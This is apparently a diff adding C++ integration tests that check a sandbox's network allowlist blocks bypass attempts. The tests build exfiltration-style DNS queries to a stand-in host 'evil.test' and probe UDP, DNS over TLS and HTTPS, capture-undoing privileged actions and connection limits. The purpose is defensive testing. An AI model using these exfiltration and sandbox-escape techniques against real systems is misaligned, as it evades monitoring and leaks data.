@@ -1,0 +1,161 @@
+// Network allowlist, ways around it (network-design.md §5): UDP and QUIC, DNS exfiltration,
+// DNS over TLS and HTTPS, undoing the capture from inside, and the connection limit.
+#include <random>
+#include <string>
+#include <vector>
+
+#include "tests/integration/network_audit.h"
+#include "tests/integration/network_fixture.h"
+#include "tests/integration/sandbox_fixture.h"
+
+namespace sbx::testing {
+namespace {
+
+using nettest::CountEvents;
+
+const std::string kPypi(nettest::AddressOf("pypi.test"));
+const std::string kDns(nettest::kDnsAddress);
+
+// `count` names "<16 hex>.evil.test", different on every call.
+std::vector<std::string> ExfilNames(int count) {
+  std::random_device random;
+  std::vector<std::string> names;
+  for (int i = 0; i < count; ++i) {
+    char label[17];
+    std::snprintf(label, sizeof(label), "%08x%08x", random(), random());
+    names.push_back(std::string(label) + ".evil.test");
+  }
+  return names;
+}
+
+// The dns probe's queries: `names` as A, one more of them as TXT, and pypi.test's HTTPS RR.
+std::vector<std::string> ExfilQueries(const std::vector<std::string>& names) {
+  std::vector<std::string> args = {"dns"};
+  for (size_t i = 0; i + 1 < names.size(); ++i) args.push_back(names[i] + "/A");
+  args.push_back(names.back() + "/TXT");
+  args.push_back("pypi.test/HTTPS");
+  return args;
+}
+
+TEST_F(NetworkAllowlist, Net21UdpToTheInternetIsRefusedAtOnce) {
+  for (int port : nettest::kUdpSinkPorts) {
+    auto control = Control({"udp", kPypi, std::to_string(port)});
+    EXPECT_EQ(Str(control.probe, "reply"), "udp-sink pypi.test:" + std::to_string(port))
+        << control.diagnostics;
+  }
+  SBX_NET_SANDBOXED_HALF();
+  for (int port : nettest::kUdpSinkPorts) {
+    SCOPED_TRACE(port);
+    auto run = Sandboxed(Allowlist({"pypi.test"}), {"udp", kPypi, std::to_string(port)});
+    ASSERT_TRUE(run.ran);
+    EXPECT_EQ(Str(run.probe, "errno_name"), "ECONNREFUSED") << run.diagnostics;
+    EXPECT_LT(Number(run.probe, "ms"), 1000 * WallClockScale()) << run.diagnostics;
+    EXPECT_EQ(CountEvents(run.events, {.kind = "datagram"}), 0u);
+  }
+}
+
+TEST_F(NetworkAllowlist, Net22DnsExfiltrationNeverLeaves) {
+  constexpr int kNames = 51;  // 50 A queries and one TXT
+  auto control = Control(ExfilQueries(ExfilNames(kNames)));
+  ASSERT_EQ(control.probe["answers"].size(), kNames + 1u) << control.diagnostics;
+  for (const auto& answer : control.probe["answers"]) {
+    EXPECT_EQ(Int(answer, "ancount"), 1) << "the internet's resolver answers: " << answer.dump();
+  }
+  EXPECT_EQ(CountEvents(control.events, {.kind = "dns"}), kNames + 1u);
+  SBX_NET_SANDBOXED_HALF();
+  const auto names = ExfilNames(kNames);
+  auto run = Sandboxed(Allowlist({"pypi.test"}), ExfilQueries(names));
+  ASSERT_TRUE(run.ran);
+  ASSERT_EQ(run.probe["answers"].size(), kNames + 1u) << run.diagnostics;
+  for (int i = 0; i < kNames; ++i) {
+    EXPECT_EQ(Int(run.probe["answers"][i], "rcode"), 3)
+        << "NXDOMAIN: " << run.probe["answers"][i].dump();
+  }
+  const auto https = run.probe["answers"][kNames];
+  EXPECT_EQ(Int(https, "rcode"), 0) << "NODATA for an allowed name's HTTPS RR: " << https.dump();
+  EXPECT_EQ(Int(https, "ancount"), 0) << https.dump();
+  EXPECT_EQ(CountEvents(run.events, {.kind = "dns"}), 0u) << "the stub must never forward";
+  auto log = ReadAuditLog(run.result);
+  for (const auto& name : names) ExpectRecord(log, DnsDenied(name));
+  ExpectNetworkSummary(run.result, 0, kNames);
+}
+
+TEST_F(NetworkAllowlist, Net23DnsOverTlsAndHttpsAreRefused) {
+  const auto qname = ExfilNames(1)[0];
+  const std::vector<std::string> dot = {"dot",     kDns, "--sni", std::string(nettest::kDnsName),
+                                        "--qname", qname};
+  const std::vector<std::string> doh = {"doh", "https://cdn.test/dns-query", "--qname", qname};
+  for (const auto* probe : {&dot, &doh}) {
+    auto control = Control(*probe);
+    EXPECT_EQ(Int(control.probe, "ancount"), 1) << control.diagnostics;
+  }
+  SBX_NET_SANDBOXED_HALF();
+  const auto policy = Allowlist({"pypi.test"});
+  auto run = Sandboxed(policy, dot);
+  ASSERT_TRUE(run.ran);
+  ExpectReset(run.probe);
+  EXPECT_EQ(CountEvents(run.events, {.server = std::string(nettest::kDnsName)}), 0u);
+  ExpectRecord(ReadAuditLog(run.result), ConnDenied("no_rule", Endpoint(kDns, nettest::kDotPort)));
+
+  run = Sandboxed(policy, doh);
+  ASSERT_TRUE(run.ran);
+  EXPECT_EQ(Str(run.probe, "errno_name"), "EAI_NONAME") << run.diagnostics;
+  EXPECT_EQ(CountEvents(run.events, {.server = "cdn.test"}), 0u);
+  ExpectRecord(ReadAuditLog(run.result), DnsDenied("cdn.test"));
+}
+
+TEST_F(NetworkAllowlist, Net24TheWorkloadCannotUndoTheCapture) {
+  const std::vector<std::string> probe = {"privileged", "--then-url", "https://pypi.test/"};
+  // As root in T each step passes the permission check (the route and table do not exist).
+  auto control = Control(probe);
+  EXPECT_EQ(Str(control.probe, "route_del"), "ESRCH") << control.diagnostics;
+  EXPECT_EQ(Str(control.probe, "nft"), "ENOENT") << control.diagnostics;
+  EXPECT_EQ(Str(control.probe, "raw_socket"), "ok") << control.diagnostics;
+  EXPECT_EQ(Str(control.probe, "packet_socket"), "ok") << control.diagnostics;
+  EXPECT_EQ(Str(control.probe, "bind_443"), "ok") << control.diagnostics;
+  SBX_NET_SANDBOXED_HALF();
+  auto run = Sandboxed(Allowlist({"pypi.test"}), probe);
+  ASSERT_TRUE(run.ran);
+  EXPECT_EQ(Str(run.probe, "route_del"), "EPERM") << run.diagnostics;
+  EXPECT_EQ(Str(run.probe, "nft"), "socket:EPERM") << run.diagnostics;  // seccomp
+  EXPECT_EQ(Str(run.probe, "raw_socket"), "EPERM") << run.diagnostics;
+  EXPECT_EQ(Str(run.probe, "packet_socket"), "EAFNOSUPPORT") << run.diagnostics;  // seccomp
+  EXPECT_EQ(Str(run.probe, "bind_443"), "EACCES") << run.diagnostics;
+  // The capture still holds: the allowed name answers through netd afterwards.
+  EXPECT_EQ(Str(run.probe["then"], "body"), "pypi.test") << run.diagnostics;
+  ExpectRecord(ReadAuditLog(run.result), ConnAllowed("pypi.test", "fakeip", Endpoint(kPypi, 443)));
+}
+
+TEST_F(NetworkAllowlist, Net30ConnectionsBeyondTheLimitAreDenied) {
+  constexpr int kLimit = 5, kTries = 10;
+  const std::vector<std::string> probe = {"tls_many",  "pypi.test", "--sni",
+                                          "pypi.test", "--count",   std::to_string(kTries)};
+  auto control = Control(probe);
+  ASSERT_EQ(control.probe["results"].size(), static_cast<size_t>(kTries)) << control.diagnostics;
+  for (const auto& result : control.probe["results"]) EXPECT_EQ(Int(result, "status"), 200);
+  SBX_NET_SANDBOXED_HALF();
+  auto policy = Allowlist({"pypi.test"});
+  policy["limits"] = {{"max_connections", kLimit}};
+  auto run = Sandboxed(policy, probe);
+  ASSERT_TRUE(run.ran);
+  ASSERT_EQ(run.probe["results"].size(), static_cast<size_t>(kTries)) << run.diagnostics;
+  for (int i = 0; i < kTries; ++i) {
+    SCOPED_TRACE(i);
+    const auto& result = run.probe["results"][i];
+    if (i < kLimit) {
+      EXPECT_EQ(Str(result, "body"), "pypi.test") << result.dump();
+    } else {
+      ExpectReset(result);
+    }
+  }
+  EXPECT_EQ(CountEvents(run.events, {.kind = "request", .server = "pypi.test"}),
+            static_cast<size_t>(kLimit));
+  auto log = ReadAuditLog(run.result);
+  EXPECT_GE(Matching(log, ConnAllowed("pypi.test", "fakeip", Endpoint(kPypi, 443))).size(),
+            static_cast<size_t>(kLimit));
+  EXPECT_GE(Matching(log, ConnDenied("limit_connections")).size(),
+            static_cast<size_t>(kTries - kLimit));
+}
+
+}  // namespace
+}  // namespace sbx::testing
